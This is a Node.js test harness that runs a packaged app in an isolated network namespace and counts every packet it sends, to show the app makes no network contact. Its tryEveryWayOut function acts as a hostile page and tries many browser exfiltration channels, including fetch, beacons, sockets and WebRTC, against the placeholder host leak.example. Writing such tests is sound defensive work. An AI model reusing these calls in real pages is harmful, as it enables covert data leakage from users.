/**
 * Runs the packaged app where every packet that it sends is counted. Called as root inside `unshare --net --mount`:
 * the only way out is one end of a cable (veth), with a default route and a name server behind it, where nobody answers.
 *
 * Arguments: the app's executable, a folder for its profile. Prints one JSON object: the packets sent at the start and
 * while the sample trains, those sent while the page tries every way out, and those of one request that is no app's (the
 * proof that packets are counted).
 */
/* global document, Image, EventSource, WebTransport, RTCPeerConnection */
import { execFileSync, spawn } from 'node:child_process';
import { lookup } from 'node:dns';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { attach } from './attach.mjs';

const [executable = '', folder = ''] = process.argv.slice(2);

const ip = (/** @type {string} */ command) => execFileSync('ip', command.split(' ')).toString();
writeFileSync('/proc/sys/net/ipv6/conf/all/disable_ipv6', '1');
ip('link set lo up');
ip('link add out0 type veth peer name far0');
ip('link set far0 up');
ip('address add 10.77.0.1/24 dev out0');
ip('link set out0 up');
ip('neighbour add 10.77.0.2 lladdr 02:00:00:00:00:02 dev out0');
ip('route add default via 10.77.0.2');
const resolver = join(folder, 'resolv.conf');
writeFileSync(resolver, 'nameserver 10.77.0.2\noptions timeout:1 attempts:1\n');
execFileSync('mount', ['--bind', resolver, '/etc/resolv.conf']);

/** Packets sent so far. */
const sent = () => Number(JSON.parse(ip('-s -j link show out0'))[0].stats64.tx.packets);

const child = spawn(
  executable,
  ['--no-sandbox', `--user-data-dir=${join(folder, 'profile')}`, '--remote-debugging-port=0'],
  { stdio: ['ignore', 'ignore', 'pipe'] },
);
try {
  const { browser, page } = await attach(child);
  await page.getByRole('button', { name: 'Hello, KAN' }).click();
  await page.getByRole('button', { name: 'Train', exact: true }).click();
  await page.getByText('Finished', { exact: true }).first().waitFor({ timeout: 120_000 });
  // A spelling checker starts when something is typed.
  await page.keyboard.press('Control+k');
  await page.keyboard.type('a wrod that is mispeled');
  await page.keyboard.press('Escape');
  await sleep(3000);
  const atWork = sent();
  await page.evaluate(tryEveryWayOut);
  await sleep(3000);
  const tried = sent() - atWork;
  await new Promise((resolve) => lookup('nobody.example', resolve));
  const counted = sent() - atWork - tried;
  console.log(JSON.stringify({ atWork, tried, counted }));
  await browser.close();
} finally {
  child.kill('SIGKILL');
}

/** Runs in the page: the actions of a page that an attacker controls. */
async function tryEveryWayOut() {
  const host = 'leak.example';
  const quietly = async (/** @type {() => unknown} */ act) => {
    try {
      await act();
    } catch {
      // Denied, as it should be.
    }
  };
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'icon', 'stylesheet', 'modulepreload']) {
    const link = document.createElement('link');
    Object.assign(link, { rel, href: `https://${rel}.${host}/` });
    document.head.append(link);
  }
  await quietly(() => fetch(`https://fetch.${host}/`));
  await quietly(() => navigator.sendBeacon(`https://beacon.${host}/`, 'x'));
  await quietly(() => new WebSocket(`wss://socket.${host}/`));
  await quietly(() => new EventSource(`https://events.${host}/`));
  await quietly(() => void (new Image().src = `https://image.${host}/`));
  await quietly(() => new WebTransport(`https://transport.${host}/`));
  await quietly(async () => {
    const connection = new RTCPeerConnection({
      iceServers: [
        { urls: [`stun:stun.${host}:3478`, 'stun:10.77.0.9:3478'] },
        {
          urls: [`turn:turn.${host}:3478?transport=tcp`, 'turn:10.77.0.9:3478?transport=tcp'],
          username: 'a',
          credential: 'b',
        },
      ],
    });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    const remote = new RTCPeerConnection();
    await remote.setRemoteDescription(/** @type {RTCSessionDescription} */ (connection.localDescription));
    await remote.setLocalDescription(await remote.createAnswer());
    await connection.setRemoteDescription(/** @type {RTCSessionDescription} */ (remote.localDescription));
    await connection.addIceCandidate({
      candidate: 'candidate:1 1 udp 2122260223 10.77.0.9 40000 typ host',
      sdpMid: '0',
    });
  });
}
